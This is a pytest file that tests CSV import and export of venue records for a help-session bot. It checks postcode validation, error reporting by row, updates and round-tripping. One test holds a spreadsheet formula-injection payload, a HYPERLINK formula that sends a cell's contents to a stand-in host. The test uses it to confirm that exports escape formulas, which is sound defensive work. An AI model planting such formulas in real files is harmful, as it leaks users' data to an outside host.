from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from bot.db.models import HelpSession, Organisation, Venue
from bot.geo.codepoint import load_postcodes
from bot.spreadsheet import FORMULA_START
from bot.venues.csvio import ImportFailed
from bot.venues.venue_csv import VENUE_COLUMNS, export_venues, import_venues
from tests.conftest import LS1_3AB, Factory

HEADER = "name,address,postcode,latitude,longitude"


def csv_text(*rows: str, header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


@pytest.fixture
def with_postcodes(db_session: Session, codepoint_dir: Path) -> Session:
    load_postcodes(db_session, ["LS"], data_dir=codepoint_dir)
    return db_session


def _venues(session: Session) -> dict[str, Venue]:
    return {venue.name: venue for venue in session.scalars(select(Venue))}


def test_rows_with_coordinates_a_postcode_or_both(with_postcodes: Session) -> None:
    report = import_venues(
        with_postcodes,
        csv_text(
            'Central,"Calverley Street, Leeds",ls13ab,,',
            "Point only,,,53.81,-1.52",
            "Both,,LS1 3AB,53.9,-1.6",
        ),
    )
    assert (report.created, report.updated, report.deleted) == (3, 0, 0)
    venues = _venues(with_postcodes)
    assert venues["Central"].postcode == "LS1 3AB"
    assert (venues["Central"].latitude, venues["Central"].longitude) == pytest.approx(LS1_3AB, abs=1e-5)
    assert venues["Point only"].postcode is None and venues["Point only"].latitude == 53.81
    # Both given: the coordinates stand.
    assert (venues["Both"].latitude, venues["Both"].longitude) == (53.9, -1.6)


def test_every_problem_is_reported_by_row_and_nothing_is_written(with_postcodes: Session) -> None:
    text = csv_text(
        "Good,,LS1 3AB,,",
        ",,LS1 3AB,,",
        "Bad postcode,,LS1 1A,,",
        "Unknown postcode,,LS1 1ZZ,,",
        "Nowhere,,,,",
        "Half,,,53.8,",
        "Far north,,,95,1",
        "Good,,ls1 3ab,,",
        "Flags,,LS1 3AB,,,",
        header=HEADER,
    )
    with pytest.raises(ImportFailed) as failure:
        import_venues(with_postcodes, text)
    messages = {error.row: error.message for error in failure.value.errors}
    assert messages[3] == "name is empty"
    assert messages[4] == "postcode 'LS1 1A' is not a full UK postcode, like LS9 7BG"
    assert "LS1 1ZZ was not found" in messages[5]
    assert messages[6] == "give a postcode, or the latitude and longitude"
    assert messages[7] == "give both latitude and longitude, or neither"
    assert messages[8] == "latitude should be between -90 and 90, not 95"
    assert messages[9] == "repeats row 2 (same name and postcode)"
    assert 2 not in messages and 10 not in messages
    assert with_postcodes.scalar(select(func.count()).select_from(Venue)) == 0


def test_the_header_is_checked(with_postcodes: Session) -> None:
    with pytest.raises(ImportFailed, match="missing column 'postcode'"):
        import_venues(with_postcodes, "name,address,latitude,longitude\nA,,53.8,-1.5\n")
    with pytest.raises(ImportFailed, match="unknown column 'step free'"):
        import_venues(with_postcodes, csv_text("A,,,53.8,-1.5", header=HEADER + ",step free"))
    with pytest.raises(ImportFailed, match="step_free should be yes or no"):
        import_venues(with_postcodes, csv_text("A,,,53.8,-1.5,perhaps", header=HEADER + ",step_free"))


def test_rows_update_the_venue_with_the_same_name_and_postcode(
    with_postcodes: Session, factory: Factory
) -> None:
    header = HEADER + ",phone,languages,organisation"
    import_venues(
        with_postcodes,
        csv_text("Hub,Old Road,LS1 3AB,,,0113 1,English | Urdu,Leeds Libraries", header=header),
    )
    hub = _venues(with_postcodes)["Hub"]
    kept = factory.help_session(hub)
    report = import_venues(
        with_postcodes, csv_text("HUB,New Road,LS1 3AB,,,0113 2,Polish,Leeds Libraries", header=header)
    )
    assert (report.created, report.updated) == (0, 1)
    with_postcodes.expire_all()
    hub = _venues(with_postcodes)["HUB"]
    assert (hub.address, hub.phone, hub.language_list) == ("New Road", "0113 2", ["Polish"])
    assert hub.organisation is not None and hub.organisation.name == "Leeds Libraries"
    assert with_postcodes.scalar(select(func.count()).select_from(Organisation)) == 1
    # Updating a venue keeps its sessions.
    assert with_postcodes.get(HelpSession, kept.id) is not None


def test_replace_removes_venues_not_in_the_file(with_postcodes: Session, factory: Factory) -> None:
    import_venues(with_postcodes, csv_text("Stays,,LS1 3AB,,", "Goes,,LS2 7UP,,"))
    factory.help_session(_venues(with_postcodes)["Goes"])
    report = import_venues(with_postcodes, csv_text("Stays,,LS1 3AB,,", "New,,,53.8,-1.5"), replace=True)
    assert (report.created, report.updated, report.deleted) == (1, 1, 1)
    assert set(_venues(with_postcodes)) == {"Stays", "New"}
    assert with_postcodes.scalar(select(func.count()).select_from(HelpSession)) == 0


def test_export_writes_what_import_reads(with_postcodes: Session, tmp_path: Path) -> None:
    header = HEADER + ",organisation,step_free,hearing_loop,languages,last_verified,sample,active"
    import_venues(
        with_postcodes,
        csv_text(
            'Central,"Calverley Street, Leeds",LS1 3AB,,,Leeds Libraries,'
            "yes,no,English | BSL,31/01/2026,yes,yes",
            "Closed,,,53.8,-1.5,,no,yes,,,no,no",
            header=header,
        ),
    )
    first = io.StringIO()
    assert export_venues(with_postcodes, first) == 2
    lines = first.getvalue().splitlines()
    assert lines[0] == ",".join(VENUE_COLUMNS)
    assert "2026-01-31" in lines[1] and "English | BSL" in lines[1]
    path = tmp_path / "export.csv"
    path.write_text(first.getvalue(), encoding="utf-8")
    report = import_venues(with_postcodes, path, replace=True)
    assert (report.created, report.updated, report.deleted) == (0, 2, 0)
    again = io.StringIO()
    export_venues(with_postcodes, again)
    assert again.getvalue() == first.getvalue()


HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'


def test_the_export_never_holds_a_formula_and_reads_back_the_same(
    with_postcodes: Session, factory: Factory
) -> None:
    names = [HYPERLINK, "+44 centre", "-dash hall", "@home", "'=quoted", "'Tis the season hall"]
    for number, name in enumerate(names):
        factory.venue(name=name, opening_notes="\tTuesdays" if number == 0 else None)
    written = io.StringIO()
    export_venues(with_postcodes, written)
    rows = list(csv.DictReader(io.StringIO(written.getvalue())))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-?\d+\.\d+", cell), (column, cell)
    assert {row["name"] for row in rows} == {
        "'" + HYPERLINK,
        "'+44 centre",
        "'-dash hall",
        "'@home",
        "''=quoted",
        "'Tis the season hall",
    }
    assert {row["longitude"] for row in rows} == {f"{LS1_3AB[1]:.6f}"}, "numbers stay numbers"
    import_venues(with_postcodes, written.getvalue(), replace=True)
    with_postcodes.expire_all()
    assert set(_venues(with_postcodes)) == set(names)
    assert _venues(with_postcodes)[HYPERLINK].opening_notes == "Tuesdays", "trimmed as any cell"
